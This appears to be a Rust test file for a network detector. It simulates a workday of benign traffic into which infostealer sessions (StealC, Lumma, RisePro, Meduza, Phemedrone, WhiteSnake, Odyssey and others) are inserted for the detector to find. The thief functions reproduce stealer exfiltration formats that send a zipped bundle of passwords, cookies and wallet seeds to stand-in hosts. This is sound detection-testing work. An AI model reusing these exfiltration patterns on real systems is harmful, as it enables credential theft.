//! Thieves of 2023 to 2026 inside a working day: a workstation reads, calls, updates, is polled and polls, and its
//! neighbours as well; for a few seconds of it a thief is at work. It must be found there, and nothing else.

use super::{Case, VICTIM, finds};
use crate::net::{Net, noise, zip};
use crate::tls;
use crate::web::{browsing, end, once, part};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use std::net::SocketAddr;

const EXFIL: &[&str] = &["exfiltration"];
/// A neighbour in the network.
const NEIGHBOUR: &str = "192.0.2.11";

/// A thief that has a case of its own, within the day.
fn again(name: &'static str, of: &'static str, about: &'static str, wire: fn(&mut Net)) -> Case {
    Case { name, about, expect: known(of).expect, wire }
}

fn known(name: &str) -> Case {
    let all = [super::panels::cases(), super::mail::cases(), super::shapes::cases()];
    all.into_iter().flatten().find(|case| case.name == name).expect("a case of this name")
}

macro_rules! within {
    ($name:literal, $about:literal) => {
        again(concat!("day-", $name), $name, $about, |net| day(net, known($name).wire))
    };
}

pub fn cases() -> Vec<Case> {
    vec![
        within!("stealc-v1", "A day with StealC 1 (2023) in it."),
        within!("stealc-v2", "A day with StealC 2 (2025) in it."),
        within!("raccoon-v2", "A day with Raccoon 2 (2023) in it."),
        within!("vidar-2025", "A day with Vidar of 2025 in it: two dead drops, then TLS to a bare address."),
        within!("lumma-v4", "A day with Lumma 4 (2024) in it."),
        within!("lumma-v6", "A day with Lumma 6 (2025) in it."),
        within!("amos", "A day with AMOS (2024) in it."),
        within!("amadey", "A day with Amadey and its plugin for credentials (2024) in it."),
        within!("snake-smtp", "A day with Snake (2025) in it."),
        within!("agenttesla-smtp", "A day with Agent Tesla by mail (2024) in it."),
        within!("agenttesla-ftp", "A day with Agent Tesla by FTP (2024) in it."),
        within!("formbook", "A day with FormBook (2025) in it: sixteen names asked one way."),
        within!("telegram-upload", "A day with a grabber (2024) in it that sends through a messenger's bot."),
        within!("webhook-and-file-host", "A day with a grabber (2025) in it: file host, then webhook."),
        Case {
            name: "day-risepro",
            about: "A day with RisePro (2023) in it: frames of length and kind on a bare address, settings, then a ZIP.",
            expect: finds("203.0.113.91", None, EXFIL, "medium"),
            wire: |net| day(net, risepro),
        },
        Case {
            name: "day-meduza",
            about: "A day with Meduza (2024) in it: an address check, then a stream of base64 to a bare address.",
            expect: finds("203.0.113.92", Some("Meduza"), EXFIL, "medium"),
            wire: |net| day(net, meduza),
        },
        Case {
            name: "day-phemedrone",
            about: "A day with Phemedrone (2024) in it: one multipart POST of a ZIP with counters.",
            expect: finds("gate.panel.example", None, EXFIL, "medium"),
            wire: |net| day(net, phemedrone),
        },
        Case {
            name: "day-whitesnake",
            about: "A day with WhiteSnake (2024) in it: an encrypted report named after user and computer.",
            expect: finds("203.0.113.94", Some("WhiteSnake"), EXFIL, "medium"),
            wire: |net| day(net, whitesnake),
        },
        Case {
            name: "day-odyssey",
            about: "A day with Odyssey (2025) in it: curl posts an archive with headers for user and build.",
            expect: finds("203.0.113.95", None, EXFIL, "medium"),
            wire: |net| day(net, odyssey),
        },
    ]
}

/// A conversation in TLS with a name and a certificate of an authority.
fn visit(net: &mut Net, client: &str, name: &'static str, addr: &str, turns: &[(usize, usize)]) {
    net.resolve(client, name, addr);
    let mut tcp = net.tcp(client, &format!("{addr}:443"));
    let own = tls::Cert {
        subject: &[("CN", name)],
        issuer: &[("C", "XX"), ("O", "Example Trust"), ("CN", "Example Trust R3")],
        from: "260115000000Z",
        until: "260415000000Z",
        names: &[name],
    };
    tls::open(net, &mut tcp, &tls::BROWSER, Some(name), Some(&own));
    for &(up, down) in turns {
        tls::data(net, &mut tcp, true, up);
        net.wait_ms(40);
        tls::data(net, &mut tcp, false, down);
        net.wait_ms(800);
    }
    net.close(tcp);
}

fn clock(net: &mut Net, seed: u64) {
    let own: SocketAddr = "192.0.2.10:123".parse().expect("address");
    let peer: SocketAddr = "198.51.100.30:123".parse().expect("address");
    let mut packet = [0_u8; 48];
    packet[0] = 0x23;
    packet[40..].copy_from_slice(&noise(seed, 8));
    net.udp(own, peer, &packet);
    net.wait_ms(18);
    packet[0] = 0x24;
    packet[1] = 2;
    packet[24..40].copy_from_slice(&noise(seed + 100, 16));
    net.udp(peer, own, &packet);
}

/// An hour of it: pages, mail, the clock, a report to a maker, a lock's hub next door.
fn hour(net: &mut Net, hour: u64) {
    for third in 0..3_u64 {
        let seed = hour * 3 + third;
        clock(net, seed);
        visit(net, VICTIM, "mail.provider.example", "198.51.100.24", &[(210, 480), (90, 60)]);
        let report = format!("{{\"product\":\"editor\",\"version\":\"9.1\",\"uptime\":{}}}", seed * 900);
        net.resolve(VICTIM, "stats.editor.example", "198.51.100.23");
        once(
            net,
            VICTIM,
            "198.51.100.23:80",
            (
                "POST /v1/ping",
                &[
                    "Host: stats.editor.example",
                    "User-Agent: Editor/9.1",
                    "Accept: application/json",
                    "Content-Type: application/json",
                ],
                report.as_bytes(),
            ),
            ("200 OK", "application/json", b"{\"ok\":true}"),
        );
        net.wait_ms(120_000);
        visit(
            net,
            VICTIM,
            "www.news.example",
            "198.51.100.80",
            &[(900, 1_400 + 61 * seed as usize), (400, 700)],
        );
        net.wait_ms(300_000);
        visit(net, NEIGHBOUR, "www.shop.example", "198.51.100.81", &[(500, 900)]);
        net.wait_ms(750_000);
    }
    let mut lock = net.tcp("192.0.2.30", "198.51.100.29:9999");
    for n in 0..8 {
        net.up(&mut lock, &[&[0x30, 0x1d, 0, 5][..], b"lock/state", &noise(n / 4, 17)].concat());
        net.down(&mut lock, &[&[0x40, 0x24][..], &noise(n / 4 + 50, 36)].concat());
        net.wait_ms(59_900);
    }
    net.close(lock);
}

fn day(net: &mut Net, thief: fn(&mut Net)) {
    browsing(net, NEIGHBOUR);
    hour(net, 0);
    visit(net, VICTIM, "meet.office.example", "198.51.100.26", &[(2_000, 3_000), (2_500, 2_600)]);
    hour(net, 1);
    visit(net, VICTIM, "photos.share.example", "198.51.100.21", &[(400, 900), (31_000, 300)]);
    net.wait_ms(400_000);
    thief(net);
    net.wait_ms(500_000);
    hour(net, 3);
    visit(net, NEIGHBOUR, "update.vendor.example", "198.51.100.27", &[(300, 9_000)]);
    browsing(net, VICTIM);
    hour(net, 4);
}

fn loot() -> Vec<u8> {
    zip(&[
        ("Passwords.txt", b"URL: https://shop.example/\nUsername: erika\nPassword: nothing\n"),
        ("Cookies/Edge_Default.txt", &noise(1, 7000)),
        ("Autofills/Edge_Default.txt", b"name\tErika\n"),
        ("Wallets/Example/seed.dat", &noise(2, 900)),
        ("Screenshot.png", &noise(3, 21_000)),
        ("System.txt", b"PC: EXAMPLE-PC\n"),
    ])
}

fn lookup(net: &mut Net, name: &'static str) {
    net.resolve(VICTIM, name, "198.51.100.63");
    let mut tcp = net.tcp(VICTIM, "198.51.100.63:443");
    tls::open(net, &mut tcp, &tls::SYSTEM, Some(name), None);
    tls::data(net, &mut tcp, true, 130);
    tls::data(net, &mut tcp, false, 260);
    net.close(tcp);
    net.wait_ms(3_100);
}

/// A frame: length of what follows the head, kind, body.
fn frame(kind: u32, body: &[u8]) -> Vec<u8> {
    [&(body.len() as u32).to_le_bytes()[..], &kind.to_le_bytes(), body].concat()
}

fn risepro(net: &mut Net) {
    lookup(net, "ipinfo.io");
    let mut tcp = net.tcp(VICTIM, "203.0.113.91:50500");
    net.down(&mut tcp, &frame(0x2711, &noise(21, 24)));
    net.up(&mut tcp, &frame(0x2710, &noise(22, 60)));
    net.wait_ms(200);
    net.down(&mut tcp, &frame(0x2715, &noise(23, 410)));
    net.wait_ms(2_400);
    let hidden: Vec<u8> = loot().iter().zip(noise(24, 32).iter().cycle()).map(|(a, b)| a ^ b).collect();
    net.up(&mut tcp, &frame(0x2722, &hidden));
    net.down(&mut tcp, &frame(0x2723, &[1]));
    net.close(tcp);
}

fn meduza(net: &mut Net) {
    lookup(net, "api.ipify.org");
    let mut tcp = net.tcp(VICTIM, "203.0.113.92:15666");
    let report =
        format!("{{\"hwid\":\"0000\",\"log\":\"{}\"}}", B64.encode([loot(), noise(9, 16_000)].concat()));
    net.up(&mut tcp, B64.encode(report).as_bytes());
    net.wait_ms(900);
    net.close(tcp);
}

fn phemedrone(net: &mut Net) {
    net.resolve(VICTIM, "gate.panel.example", "203.0.113.93");
    let b = "----------8dc5f1a2b3c4d5e";
    let mut body = part(b, "file", Some(("XX-192.0.2.10-log.zip", "application/octet-stream")), &loot());
    for (name, value) in
        [("filename", "XX-192.0.2.10-log.zip"), ("filedescription", "Passwords: 1 Cookies: 12 Wallets: 1")]
    {
        body.extend(part(b, name, None, value.as_bytes()));
    }
    body.extend(end(b));
    let kind = format!("Content-Type: multipart/form-data; boundary={b}");
    once(
        net,
        VICTIM,
        "203.0.113.93:80",
        ("POST /m/gate.php", &["Host: gate.panel.example", &kind, "Expect: 100-continue"], &body),
        ("200 OK", "text/html", b"{\"status\":\"success\"}"),
    );
}

fn whitesnake(net: &mut Net) {
    lookup(net, "ip-api.com");
    let report = [&b"WSR$"[..], &noise(31, 41_000)].concat();
    once(
        net,
        VICTIM,
        "203.0.113.94:8080",
        ("PUT /kQ3xv_erika@EXAMPLE-PC_report.wsr", &["Host: 203.0.113.94:8080"], &report),
        ("200 OK", "text/plain", b"http://203.0.113.94:8080/get/Qk1/kQ3xv_erika@EXAMPLE-PC_report.wsr"),
    );
}

fn odyssey(net: &mut Net) {
    once(
        net,
        VICTIM,
        "203.0.113.95:80",
        (
            "POST /log",
            &[
                "Host: 203.0.113.95",
                "User-Agent: curl/8.7.1",
                "Accept: */*",
                "buildid: 4a1f",
                "username: erika",
                "repeat: 0",
                "Content-Type: application/x-www-form-urlencoded",
            ],
            &loot(),
        ),
        ("200 OK", "text/plain", b"ok"),
    );
}
